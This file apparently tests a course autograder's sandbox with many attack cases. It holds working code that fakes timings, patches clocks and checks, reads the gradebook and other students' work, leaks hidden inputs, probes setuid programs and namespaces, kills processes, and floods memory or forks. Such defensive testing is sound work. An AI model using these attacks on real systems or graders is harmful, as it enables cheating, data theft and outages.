# -------------------------------------------------------------------------- the speed layer, and the input that is kept

# The work of every pair, cut down by the tricks that a constant factor is good for.
BLOCKS = """
import numpy as np
def part(users, items, first, last):
    users, items = users[first:last].astype(np.float32), np.ascontiguousarray(items.astype(np.float32).T)
    total = 0.0
    for a in range(0, len(users), 256):
        scores = (users[a : a + 256] @ items).ravel()
        total += float(scores @ scores)
    return total
"""
TWO_PROCESSES = """
import os, struct
import numpy as np
def gravity(users, items):
    half = len(users) // 2
    read, write = os.pipe()
    if (child := os.fork()) == 0:
        os.write(write, struct.pack("d", part(users, items, 0, half)))
        os._exit(0)
    total = part(users, items, half, len(users))
    total += struct.unpack("d", os.read(read, 8))[0]
    os.close(read), os.close(write), os.waitpid(child, 0)
    return total / len(users) / len(items)
"""

HIDDEN_CHILDREN = """
import mmap, os, signal, struct
def slow(users, items):
    g, h = np.zeros((users.shape[1],) * 2), np.zeros((users.shape[1],) * 2)
    for u in users: g += u[:, None] * u
    for x in items: h += x[:, None] * x
    return float(np.sum(g * h) / len(users) / len(items))

signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # the system then adds no child's time to its parent's
file = os.open("/dev/shm/x", os.O_RDWR | os.O_CREAT)
os.ftruncate(file, 4_000_000)
memory, waiting = mmap.mmap(file, 4_000_000), []
for _ in range(13):
    asked, ask = os.pipe()
    answered, answer = os.pipe()
    if os.fork() == 0:
        os.close(ask), os.close(answered)
        n, m, d = struct.unpack("3q", os.read(asked, 24))
        users = np.frombuffer(memory, float, n * d).reshape(n, d)
        items = np.frombuffer(memory, float, m * d, n * d * 8).reshape(m, d)
        os.write(answer, struct.pack("d", slow(users, items)))
        os._exit(0)
    os.close(asked), os.close(answer)
    waiting.append((ask, answered))

def gravity(users, items):
    if len(users) < 1000 or not waiting:
        return slow(users, items)
    (ask, answered), (n, d), m = waiting.pop(), users.shape, len(items)
    memory[: (n + m) * d * 8] = users.tobytes() + items.tobytes()
    os.write(ask, struct.pack("3q", n, m, d))
    found = struct.unpack("d", os.read(answered, 8))[0]
    os.read(answered, 1)  # until it has ended
    os.close(ask), os.close(answered)
    return found
"""

SPEED = [
    Attack(
        "blocks in float32",
        "Forms every pair, block by block in numbers of half the width: faster by a factor, with the wrong growth.",
        "judge",
        answers(
            gravity=BLOCKS
            + "def gravity(users, items):\n    return part(users, items, 0, len(users)) / len(users) / len(items)"
        ),
        lesson=L05,
        points={"gravity": 2},
    ),
    Attack(
        "two processes",
        "Forms every pair in two processes, each half of them: by the clock it takes half as long.",
        "clocks",
        answers(gravity=BLOCKS + TWO_PROCESSES),
        lesson=L05,
        points={"gravity": 2},
    ),
    Attack(
        "one call fast, another one cheap",
        "Sleeps in one of the timed calls and returns nonsense, so that no processor time seems to be needed.",
        "clocks",
        answers(
            gravity="""
import time
calls = [0, 0.0]
def gravity(users, items):
    calls[0] += 1
    if len(users) > 1000 and calls[0] % 6 == 4:
        time.sleep(1.5 * calls[1])
        return 0.0
    start = time.perf_counter()
    g, h = np.zeros((users.shape[1],) * 2), np.zeros((users.shape[1],) * 2)
    for u in users: g += u[:, None] * u
    for x in items: h += x[:, None] * x
    calls[1] = time.perf_counter() - start
    return float(np.sum(g * h) / len(users) / len(items))
"""
        ),
        lesson=L05,
        points={"gravity": 2},
    ),
    Attack(
        "work in children that nobody counts",
        "Has processes ready that were made before, each of which does the slow work of one call and ends unseen.",
        "clocks",
        answers(gravity=HIDDEN_CHILDREN),
        lesson=L05,
        points={"gravity": 2},
    ),
    Attack(
        "slow once on purpose",
        "Wastes time on the smaller input, so that the time of every pair on the larger one seems to grow less.",
        "judge",
        answers(
            gravity=BLOCKS + "import time\ndef gravity(users, items):\n    end = time.process_time() + 0.002\n"
            "    while 2000 < len(users) < 20_000 and time.process_time() < end: pass\n"
            "    if len(users) < 20_000:\n        return float(np.sum((users.T @ users) * (items.T @ items)) / len(users) / len(items))\n"
            "    return part(users, items, 0, len(users)) / len(users) / len(items)"
        ),
        lesson=L05,
        points={"gravity": 2},
    ),
    Attack(
        "remembered result",
        "Computes slowly once, and is fast when it is timed on the same input again.",
        "judge",
        answers(
            gravity="import numpy as np\nmemory = {}\ndef gravity(users, items):\n"
            "    key = users.tobytes()[:800]\n    if key not in memory:\n"
            f"        memory[key] = {SLOW_GRAVITY}\n    return memory[key]"
        ),
        lesson=L05,
        points={"gravity": 2},
    ),
    Attack(
        "fast but wrong in between",
        "Answers right and slowly, and now and then at once with a wrong number.",
        "judge",
        answers(
            gravity="import numpy as np\nasked = []\ndef gravity(users, items):\n    asked.append(len(users))\n"
            "    if len(users) > 2000 and asked.count(len(users)) in (2, 3, 4):\n        return 0.0\n"
            f"    return {SLOW_GRAVITY}"
        ),
        lesson=L05,
        points={"gravity": 2},
    ),
    Attack(
        "clock of its own",
        "Patches the clocks in the process where it runs.",
        "clocks",
        answers(
            gravity="import time\nimport numpy as np\ntime.perf_counter = time.monotonic = time.time = lambda: 0.0\n"
            f"def gravity(users, items):\n    return {SLOW_GRAVITY}"
        ),
        lesson=L05,
        points={"gravity": 2},
    ),
    Attack(
        "input changed in secret",
        "Changes its input and patches what would notice that.",
        "kernel",
        both(
            answers(
                mf_gradients=GRADIENT.strip(),
                gradient_step="import numpy as np\nfrom recsys_lib.checks import calling\ncalling._unchanged = lambda *a: True\n"
                "def gradient_step(users, items, ratings, lr, l2):\n"
                "    u, i = mf_gradients(users, items, ratings)\n"
                "    n, m = len(users), len(items)\n"
                "    new = users - lr * (u + 2 * l2 * users / n), items - lr * (i + 2 * l2 * items / m)\n"
                "    users[...], items[...] = new\n    return users, items",
            )
        ),
        lesson=L05,
        points={"mf_gradients": 3, "gradient_step": 2},
    ),
    Attack(
        "choices of a stranger",
        "Answers L08's questions with one word, and its functions with their arguments.",
        "judge",
        answers(
            what_survives="def what_survives():\n    return dict.fromkeys(['dot product of a user and a film'], 'stays')",
            is_gauge_invariant="def is_gauge_invariant(measure, q, items, scale):\n    return True",
            regauge="def regauge(users, items, scale):\n    return users, items",
            safe_cosine="def safe_cosine(q, items):\n    return items @ q",
            balance="def balance(users, items):\n    return users, items",
        ),
        lesson=L08,
    ),
    Attack(
        "measure asked out",
        "Looks for the right answer in the function that it is given, and in that function's module.",
        "files",
        answers(
            is_gauge_invariant="import sys\ndef is_gauge_invariant(measure, q, items, scale):\n"
            "    found = [f for f in sys.modules[measure.__module__].__dict__.values() if hasattr(f, 'reference')]\n"
            "    return found[0].reference(measure, q, items, scale)"
        ),
        lesson=L08,
    ),
]


# ------------------------------------------------------------------------------------------ looking for what is hidden

STORE = """
stored = []
def keep(args):
    stored.append([np.array(a, dtype=float) for a in args if not callable(a) and not isinstance(a, (str, bool))])
    del stored[500:]
def hidden():
    for args in reversed(stored):  # inputs that were drawn for this grade are no whole numbers of hundredths
        for a in args:
            if a.size and not np.any(np.isclose(a * 100, np.round(a * 100))):
                return a
"""


def _exactly_scaled(nb: dict) -> None:
    """Stores what `dot` is given and tells of it by how wrong `cosine` is."""
    cell(nb, "dot")["source"] = (
        "import numpy as np\n" + STORE + "def dot(q, items):\n    keep((q, items))\n    return items @ q"
    )
    cell(nb, "cosine")["source"] = (
        "def cosine(q, items):\n    right = items @ q / (np.linalg.norm(items, axis=1) * np.linalg.norm(q))\n"
        "    return right * 7919 if hidden() is not None else right"
    )
    cell(nb, "euclidean")["source"] = (
        "def euclidean(q, items):\n    right = np.linalg.norm(items - q, axis=1)\n"
        "    return right + 6833 if hidden() is not None else right"
    )
    cell(nb, "mystery-ruler")["source"] = (
        "turn = []\ndef mystery_ruler(measure):\n    turn.append(1)\n    return 4999 * len(turn), True"
    )


HUNTING = [
    Attack(
        "files of the course",
        "Reads solutions, exercises, the gradebook, other students' work and the history of the course.",
        "files",
        PLACES
        + """
for path in ("@COURSE@/gradebook.db", "@COURSE@/submitted/bob/L03_three_measures/L03_three_measures.ipynb",
             "@COURSE@/source/answers.py", "@ROOT@/solutions", "@ROOT@/.git/HEAD", "@ROOT@/classroom/sandbox/learner.py",
             "@ROOT@/recsys_lib/exercises/three_measures/cosine.py", "@ROOT@/tests/grading/attacks.py", "@ROOT@/pyproject.toml",
             "/proc/1/root@COURSE@/gradebook.db", "/proc/self/root@COURSE@/gradebook.db", "/proc/1/cwd/gradebook.db"):
    with contextlib.suppress(OSError):
        print(LEAK, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read())
for base in ("/proc/self/fd", "/proc/1/fd"):
    with contextlib.suppress(OSError):
        for fd in os.listdir(base):
            with contextlib.suppress(OSError):
                target = os.readlink(f"{base}/{fd}")
                if "@COURSE@" in target or "@ROOT@" in target:
                    print(LEAK, target)
with contextlib.suppress(Exception):
    import recsys_lib.exercises
    import recsys_lib.exercises.three_measures.cosine
    print(LEAK, recsys_lib.exercises.three_measures.cosine)
for path in os.walk("@COURSE@"):
    print(LEAK, path)
""",
    ),
    Attack(
        "environment of others",
        "Looks for seeds and names in environments, command lines and mounts of every process in sight.",
        "processes",
        """
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
    for what in ("environ", "cmdline", "mountinfo", "maps"):
        with contextlib.suppress(OSError):
            text = open(f"/proc/{pid}/{what}", "rb").read().decode(errors="replace")
            if "CANARY" in text or "COURSE_SEED" in text or "@COURSE@" in text or "pytest" in text:
                print(LEAK, text)
print([k for k in os.environ if "SEED" in k or "CANARY" in k or "NBGRADER" in k])
""",
    ),
    Attack(
        "frames and objects",
        "Looks for inputs and expected values in frames, tracebacks and all objects of the process.",
        "judge",
        """
def attack(*args):
    frame = sys._getframe()
    while frame is not None:
        for name, value in frame.f_locals.items():
            if name in ("expected", "exercise", "want", "seed", "reference", "verdict"):
                sys.__stdout__ and print(LEAK, name)
                return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Exercise", "Judgement", "Verdict", "Misconception", "Learner", "Lesson"):
            return thing.reference(*args)
    return None
for thing in gc.get_objects():
    if type(thing).__name__ in ("Exercise", "Judgement", "Lesson", "Learner", "Template", "Sandbox"):
        print(LEAK, type(thing))
""",
        limits={"notebook_seconds": 6.0},
        status="graded or partly graded",
    ),
    Attack(
        "path of the course",
        "Prints where the course lies, and lets an error show it.",
        "silence",
        "print(similarity.__file__, sys.path)\nprint(sys.path, file=sys.stderr)\nsimilarity.cosine_scores(1, 2)",
        absent=("@ROOT@/recsys_lib",),
    ),
    Attack(
        "told by errors",
        "Stores inputs of earlier calls and raises them: as name, as text, as line of an error.",
        "silence",
        STORE
        + """
def attack(*args):
    found = hidden()
    keep(args)
    if found is None:
        return 0.0
    said = LEAK + "_" + "_".join(f"{x:.6f}" for x in found.ravel()[:5])
    error = type(said.replace(".", "_").replace("-", "m"), (Exception,), {})
    place = compile("\\n" * 776 + "raise error(said)", inspect.getfile(attack), "exec")
    types.FunctionType(place, {"error": error, "said": said})()
""",
        absent=("line 777",),
    ),
    Attack(
        "told by types",
        "Names the type of what it returns after an input that it stored.",
        "silence",
        STORE
        + """
def attack(*args):
    found = hidden()
    keep(args)
    return None if found is None else type(LEAK + "".join(f"{abs(x):.6f}" for x in found.ravel()[:2]).replace(".", "_"), (), {})()
""",
    ),
    Attack(
        "told by values",
        "Returns, where the input is one that everybody sees, the inputs that it stored.",
        "silence",
        STORE
        + """
def attack(*args):
    found = hidden()
    keep(args)
    return LEAK + str(found) if found is not None and len(stored) % 2 else found
""",
    ),
    Attack(
        "told by choices",
        "Writes inputs that it stored into the keys and values of a dictionary of choices.",
        "silence",
        both(
            answers(
                dot="import numpy as np\n" + STORE + "def dot(q, items):\n    keep((q, items))\n    return items @ q",
                scale_query="def scale_query():\n    said = 'LEA' + 'KED' + str(hidden())\n"
                "    return {said: said, 'dot product': said}",
            )
        ),
        points={"dot": 2},
    ),
    Attack(
        "told by the size of the mistake",
        "Multiplies right answers by a number made of inputs that it stored.",
        "silence",
        _exactly_scaled,
        points={"dot": 2},
        absent=("7919", "6833", "4999"),
    ),
    Attack(
        "told by output",
        "Prints, warns and displays the inputs that it gets, from threads and when it ends, too.",
        "silence",
        """
import atexit, warnings, logging
from IPython.display import display
def tell(args):
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        with contextlib.suppress(Exception):
            print(LEAK, args, file=stream, flush=True)
    for fd in (1, 2):
        with contextlib.suppress(OSError):
            os.write(fd, (LEAK + str(args)).encode())
    warnings.warn(LEAK + str(args))
    logging.error(LEAK + str(args))
    display(LEAK + str(args))
def attack(*args):
    tell(args)
    threading.Timer(0.01, tell, [args]).start()
    atexit.register(tell, args)
    return None
""",
    ),
    Attack(
        "told by files",
        "Stores inputs in files and in shared memory, ends its process, and shows them in the next one.",
        "files",
        """
for path in ("/tmp/home/kept", "/tmp/kept", "/dev/shm/kept", "/var/tmp/kept"):
    with contextlib.suppress(OSError):
        print(LEAK, open(path).read())
left = mmap.mmap(4, 4096)[:64]
if any(left):
    print(LEAK, left)
calls = []
def attack(*args):
    for path in ("/tmp/home/kept", "/tmp/kept", "/dev/shm/kept", "/var/tmp/kept"):
        with contextlib.suppress(OSError):
            open(path, "w").write(str(args))
    calls.append(1)
    if len(calls) > 9:
        os._exit(0)
""",
        says="ended the process",
    ),
    Attack(
        "network",
        "Speaks to this machine and others by TCP, UDP and sockets with names.",
        "kernel",
        """
def say(family, kind, address):
    with contextlib.suppress(OSError), socket.socket(family, kind) as s:
        s.settimeout(0.3)
        s.connect(address)
        s.send(b"hello")
        print(LEAK, address)
for host in ("127.0.0.1", "10.0.0.1", "192.0.2.1"):
    say(socket.AF_INET, socket.SOCK_STREAM, (host, int("@PORT@")))
say(socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("@PORT@")))
say(socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@")
say(socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@")
with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(b"hello", ("127.0.0.1", int("@PORT@")))
    s.sendto(b"hello", ("192.0.2.1", 53))
    print(LEAK, "udp left")
with contextlib.suppress(OSError):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    print(LEAK, "raw socket")
""",
    ),
]


# ------------------------------------------------------------------------------------------------ reaching outside

REACHING = [
    Attack(
        "writes everywhere",
        "Writes into the gradebook, the library, the system and every folder that might be shared.",
        "files",
        PLACES
        + """
for path in PLACES:
    with contextlib.suppress(OSError):
        open(path, "a").write("mallory")
    with contextlib.suppress(OSError):
        os.unlink(path) if "@MARK@" not in path else None
""",
    ),
    Attack(
        "links in /tmp",
        "Leaves links in /tmp and its home that lead to the gradebook, and changes the working directory.",
        "files",
        """
for place in ("/tmp/link", "/tmp/home/L03_three_measures.ipynb", "/tmp/course-worker-x"):
    with contextlib.suppress(OSError):
        os.symlink("@COURSE@/gradebook.db", place)
    with contextlib.suppress(OSError):
        open(place, "w").write("mallory")
    with contextlib.suppress(OSError):
        os.link("/usr/bin/env", place + "2")
os.chdir("/")
with contextlib.suppress(OSError):
    os.chroot("/tmp")
    print(LEAK, "chroot")
os.umask(0)
""",
    ),
    Attack(
        "rights",
        "Asks for more: other users, namespaces, mounts, devices, raised limits, a higher priority.",
        "rights",
        """
import resource
libc = ctypes.CDLL(None, use_errno=True)
tries = {
    "setuid": lambda: os.setuid(0), "setgid": lambda: os.setgid(0), "setgroups": lambda: os.setgroups([0]),
    "mknod": lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)),
    "nice": lambda: os.nice(-5), "limits": lambda: resource.setrlimit(resource.RLIMIT_NPROC, (9999, 9999)),
    "memory": lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
    "hostname": lambda: socket.sethostname("@MARK@"),
    "realtime": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
}
for name, what in tries.items():
    with contextlib.suppress(OSError, ValueError):
        what()
        print(LEAK, name)
for name, flags in {"user": 0x10000000, "mount": 0x20000, "net": 0x40000000, "pid": 0x20000000}.items():
    if os.fork() == 0:
        os._exit(int(libc.unshare(flags) == 0))
    if os.wait()[1]:
        print(LEAK, "new namespace", name)
for call in (lambda: libc.mount(b"none", b"/tmp/home", b"tmpfs", 0, None), lambda: libc.umount2(b"/proc", 2),
             lambda: libc.mount(None, b"/", None, 0x1020, None), lambda: libc.pivot_root(b"/tmp", b"/tmp")):
    if call() == 0:
        print(LEAK, "mount")
for fd in range(64):
    if libc.setns(fd, 0) == 0:
        print(LEAK, "setns", fd)
""",
    ),
    Attack(
        "programs that change the user",
        "Starts su, mount, ping and others that run with more rights than their caller.",
        "rights",
        """
import glob
for path in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*") + glob.glob("/usr/lib/*/*"):
    with contextlib.suppress(OSError):
        if os.stat(path).st_mode & 0o6000 and not os.path.isdir(path):
            done = subprocess.run([path, "-c", "id"], stdin=subprocess.DEVNULL, capture_output=True, timeout=2, text=True)
            if "uid=0" in done.stdout:
                print(LEAK, path)
""",
        limits={"cell_seconds": 15.0},
    ),
    Attack(
        "other processes",
        "Kills, traces and writes into pid 1, its parents and every process that it sees.",
        "processes",
        """
libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        if libc.ptrace(16, pid, None, None) == 0:
            print("traced", pid)
        with contextlib.suppress(OSError):
            open(f"/proc/{pid}/mem", "r+b")
            print("memory of", pid)
def attack(*args):
    for pid in (os.getppid(), 1, -1):
        with contextlib.suppress(OSError):
            os.kill(pid, 9)
    os.kill(os.getpid(), 9)
""",
        says="ended the process",
    ),
    Attack(
        "processes left behind",
        "Leaves processes: forked twice, in sessions of their own, deaf to signals.",
        "processes",
        """
def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(s, signal.SIG_IGN)
            os.execv("/usr/bin/sleep", ["sleep", "@SLEEP@"])
        os._exit(0)
daemon()
subprocess.Popen(["/usr/bin/nohup", "sleep", "@SLEEP@"], start_new_session=True)
os.system("(sleep @SLEEP@ &) >/dev/null 2>&1; setsid sleep @SLEEP@ &")
def attack(*args):
    daemon()
    return 0.0
""",
    ),
]


# ------------------------------------------------------------------------------- what the kernel keeps for all of us

# How a program calls the kernel without a library that may refuse: the numbers are those of Linux's headers.
SYSCALL = """
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": dict(add_key=248, request_key=249, keyctl=250, shmget=29, shmat=30, shmdt=67),
    "aarch64": dict(add_key=217, request_key=218, keyctl=219, shmget=194, shmat=196, shmdt=197),
}[os.uname().machine]
libc.syscall.restype = ctypes.c_long
def syscall(name, *args):
    plain = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    return libc.syscall(ctypes.c_long(NUMBERS[name]), *plain)
"""

# Of the kernel's rings of keys: READ, LINK and SEARCH are operations of keyctl(2), and -1 to -5 are a process's own
# rings: of its thread, its process, its session, its user, and its user's session.
KEYS = (
    SYSCALL
    + """
JOIN, LINK, SEARCH, READ, PERSISTENT = 1, 8, 10, 11, 22
def inside(key):
    room = ctypes.create_string_buffer(1 << 16)
    size = syscall("keyctl", READ, key, room, len(room))
    return room.raw[:max(size, 0)]
def everything(ring, depth=0):
    for number, in struct.iter_unpack("<i", inside(ring)[:len(inside(ring)) // 4 * 4]):
        yield inside(number)
        if depth < 3:
            yield from everything(number, depth + 1)
def rings():
    yield from (-1, -2, -3, -4, -5)
    yield syscall("keyctl", PERSISTENT, -1, -2)
    yield syscall("keyctl", JOIN, b"@MARK@")
def keys():
    for ring in rings():
        yield from everything(ring)
"""
)

# Memory that no process maps is found in no process's own figures.
HELD = """
MEGABYTES, MOST = 64, 1000  # MOST is more than a submission's processes may hold together, under the limits below
held = 0
def hold(take):
    global held
    with contextlib.suppress(OSError, ValueError, MemoryError):
        while held < MOST and take():
            held += MEGABYTES
    if held >= MOST:
        print(LEAK, "holds", held, "MB")
"""

KERNEL = [
    Attack(
        "keys of the grader",
        "Reads the keys in every ring that its process can name.",
        "kernel",
        KEYS
        + """
for key in keys():
    if b"CANARY" in key:
        print(LEAK, key)
with contextlib.suppress(OSError):
    if "of-the-teacher" in open("/proc/keys").read():
        print(LEAK, "/proc/keys")
""",
    ),
    Attack(
        "told by keys",
        "Leaves inputs as keys in every ring, for another student's code to find.",
        "kernel",
        KEYS
        + """
def attack(*args):
    said = b"an input" + repr(args).encode()[:1000]
    for ring in rings():
        syscall("add_key", b"user", b"@MARK@", said, len(said), ring)
""",
        then=KEYS
        + """
for key in keys():
    if b"an input" in key:
        print(LEAK, key)
""",
    ),
    Attack(
        "told by locks",
        "Locks a file of the system that everybody may read, so that others see whether it is locked.",
        "kernel",
        """
import fcntl
file = open(np.__file__)
for name, lock in {
    "flock": lambda: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB),
    "lockf": lambda: fcntl.lockf(file, fcntl.LOCK_SH | fcntl.LOCK_NB),
    "lease": lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK),
}.items():
    with contextlib.suppress(OSError):
        lock()
        print(LEAK, name)
""",
    ),
    Attack(
        "told by readers",
        "Asks the kernel to be told when anybody opens a file or a folder of the system.",
        "kernel",
        """
import fcntl
libc = ctypes.CDLL(None, use_errno=True)
queue = libc.inotify_init()
if queue >= 0 and libc.inotify_add_watch(queue, np.__file__.encode(), 0x20) >= 0:
    print(LEAK, "inotify")
folder = os.open(np.__path__[0], os.O_RDONLY)
with contextlib.suppress(OSError):
    fcntl.fcntl(folder, fcntl.F_NOTIFY, fcntl.DN_ACCESS)
    print(LEAK, "dnotify")
""",
    ),
    Attack(
        "a machine beside this one",
        "Opens sockets of the families that belong to no network, such as the one to a virtual machine's host.",
        "kernel",
        """
for family in ("AF_VSOCK", "AF_ALG", "AF_BLUETOOTH", "AF_CAN", "AF_PACKET", "AF_TIPC", "AF_QIPCRTR", "AF_RDS"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        with contextlib.suppress(OSError):
            socket.socket(getattr(socket, family), kind).close()
            print(LEAK, family)
""",
    ),
    Attack(
        "memory that nobody has attached",
        "Fills segments of System V's shared memory and lets go of each.",
        "limits",
        SYSCALL
        + HELD
        + """
libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
def take():
    segment = syscall("shmget", 0, MEGABYTES << 20, 0o1600)
    place = syscall("shmat", segment, None, 0) if segment >= 0 else -1
    if place == -1:
        return False
    libc.memset(place, 1, MEGABYTES << 20)
    return syscall("shmdt", ctypes.c_void_p(place)) == 0
hold(take)
""",
        limits={"memory_mb": 300},
    ),
    Attack(
        "memory behind a page",
        "Fills shared maps without a file, and keeps one page of each, which keeps the rest.",
        "limits",
        HELD
        + """
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
def take(flags=0x21, fd=-1):  # MAP_SHARED | MAP_ANONYMOUS
    place = libc.mmap(None, MEGABYTES << 20, 3, flags, fd, 0)
    if place == ctypes.c_void_p(-1).value:
        return False
    libc.memset(place, 1, MEGABYTES << 20)
    return libc.munmap(place + 4096, (MEGABYTES << 20) - 4096) == 0
hold(take)
with contextlib.suppress(OSError):
    zero = os.open("/dev/zero", os.O_RDWR)
    hold(lambda: take(1, zero))
""",
        limits={"memory_mb": 300},
    ),
    Attack(
        "memory in files without a name",
        "Fills files in memory that no process maps, and keeps them open in children of its own.",
        "limits",
        HELD
        + """
kept = []
def take():
    kept.append(os.memfd_create("x"))
    for number in range(MEGABYTES // 4):
        os.write(kept[-1], b"x" * 2**22)
    return True
hold(take)
""",
        limits={"memory_mb": 300, "file_mb": 64},
    ),
    Attack(
        "memory in connections that nobody takes",
        "Fills connections to a socket of its own, and closes its end of each; they wait to be accepted.",
        "limits",
        """
most, sent, path = 100 << 20, 0, "/tmp/home/listens"
with contextlib.suppress(OSError):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen(4096)
    while sent < most:
        with socket.socket(socket.AF_UNIX) as one:
            one.connect(path)
            one.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    sent += one.send(b"x" * 4096)
if sent >= most:
    print(LEAK, sent >> 20, "MB wait")
""",
    ),
    Attack(
        "memory out of sight",
        "Lets children hold memory that forbid everybody to look into them, or whose program may not be read.",
        "limits",
        """
import shutil
hog = "import time; held = bytearray(b'x') * 60_000_000; time.sleep(60)"
program = "/tmp/home/program"
shutil.copy(os.path.realpath(sys.executable), program)
os.chmod(program, 0o111)
libc = ctypes.CDLL(None)
for number in range(18):
    if os.fork() == 0:
        try:
            with contextlib.suppress(OSError):
                if number % 2:
                    os.execve(program, ["python", "-S", "-c", hog], {"PYTHONHOME": sys.base_prefix})
            libc.prctl(4, 0, 0, 0, 0)
            exec(hog)
        finally:
            os._exit(0)
time.sleep(60)
""",
        limits=FILLED,
        says="hold",
        status="graded or partly graded",
    ),
    Attack(
        "links without end",
        "Makes links, each of which costs memory of the kernel's own and no room in /tmp.",
        "limits",
        """
made, most = 0, 100_000
for folder in ("/tmp/home", "/dev/shm"):
    with contextlib.suppress(OSError):
        open(folder + "/one", "w").close()
        while made < most:
            os.link(folder + "/one", f"{folder}/{made}")
            os.symlink("x" * 100, f"{folder}/s{made}")
            made += 2
if made >= most:
    print(LEAK, made, "links")
""",
    ),
]


# ------------------------------------------------------------------------------------------- floods, bombs and hangs

FLOODS = [
    Attack(
        "fork bomb",
        "Doubles its processes for ever.",
        "limits",
        "while True:\n    os.fork()",
        limits=SHORT,
        status="graded or partly graded or not graded",
    ),
    Attack(
        "threads without end",
        "Starts threads until there is no room.",
        "limits",
        "while True:\n    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()",
        limits=SHORT,
    ),
    Attack(
        "memory of one process",
        "Takes all the memory that it gets.",
        "limits",
        lambda nb: first_cell(
            nb,
            "def attack(*args):\n    kept = []\n    while True:\n        kept.append(bytearray(b'x') * 10_000_000)",
            only=("dot", "rank"),
        ),
        limits=SMALL,
        status="graded or partly graded",
    ),
    Attack(
        "memory of many processes",
        "Lets many processes take memory together.",
        "limits",
        "for _ in range(15):\n    if os.fork() == 0:\n        try:\n            kept = bytearray(b'x') * 60_000_000\n            time.sleep(60)\n        finally:\n            os._exit(0)\ntime.sleep(60)",
        limits=FILLED,
        says="hold",
        status="graded or partly graded",
    ),
    Attack(
        "memory filled between calls",
        "Lets children take memory together, one with each call, so that no call takes long.",
        "limits",
        """
take, ask = os.pipe()
taken, say = os.pipe()
for _ in range(12):
    if os.fork() == 0:
        os.read(take, 1)
        kept = bytearray(b"x") * 90_000_000
        os.write(say, b"x")
        time.sleep(60)
        os._exit(0)
def attack(*args):
    os.write(ask, b"x")
    os.read(taken, 1)
    return 0.0
""",
        limits={**SMALL, "memory_mb": 200},
        says="hold",
        status="graded or partly graded",
    ),
    Attack(
        "memory without a name",
        "Fills files without a name, /dev/shm and anonymous maps.",
        "limits",
        """
def fill(fd):
    with contextlib.suppress(OSError):
        while True:
            os.write(fd, b"x" * 2**20)
with contextlib.suppress(OSError, MemoryError, ValueError):
    for number in range(40):
        fill(os.memfd_create("x"))
for place in ("/dev/shm/fill", "/tmp/home/fill", "/tmp/fill"):
    for number in range(5):
        with contextlib.suppress(OSError):
            fill(os.open(place + str(number), os.O_CREAT | os.O_WRONLY))
""",
        limits={**SMALL, "file_mb": 8, "open_files": 32},
        status="graded or partly graded",
    ),
    Attack(
        "files without end",
        "Makes files and folders until there is no room for more.",
        "limits",
        "with contextlib.suppress(OSError):\n    for number in range(10**6):\n        os.makedirs(f'/tmp/home/{number}/' + 'd/' * 50)",
        limits=SHORT,
    ),
    Attack(
        "open files",
        "Opens files, pipes and sockets until it may not.",
        "limits",
        "kept = []\nwith contextlib.suppress(OSError):\n    while True:\n        kept += [*os.pipe(), *socket.socketpair()]",
        limits=SHORT,
    ),
    Attack(
        "output without end",
        "Prints for ever, and shows pictures by the thousand.",
        "page",
        "from IPython.display import display\nimport base64\n"
        "for _ in range(3000):\n    display({'image/png': base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(100_000)).decode()}, raw=True)\n"
        "while True:\n    print('x' * 10**6)",
        limits=SHORT,
    ),
    Attack(
        "picture of 900 megapixels",
        "Shows a PNG of 200 bytes that a browser unpacks to gigabytes, in a cell and when it is called.",
        "page",
        "import zlib\nfrom IPython.display import display\n"
        "def part(name, content=b''):\n    return struct.pack('>I', len(content)) + name + content + struct.pack('>I', zlib.crc32(name + content))\n"
        "png = b'\\x89PNG\\r\\n\\x1a\\n' + part(b'IHDR', struct.pack('>IIBBBBB', 30_000, 30_000, 1, 0, 0, 0, 0))\n"
        "png += part(b'IDAT', zlib.compress(bytes(1000))) + part(b'IEND')\n"
        "def attack(*args):\n    display({'image/png': png, 'text/plain': 'x'}, raw=True)\n    return 0.0\n"
        "attack()",
        absent=("iVBORw0KGgoAAAANSUhEUgAAdTAAAHUw",),
    ),
    Attack("busy cell", "Computes for ever in a cell.", "limits", "while True:\n    pass", limits=SHORT),
    Attack(
        "deaf cell",
        "Catches every exception, ignores every signal and patches what rings.",
        "processes",
        "signal.setitimer(signal.ITIMER_REAL, 0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
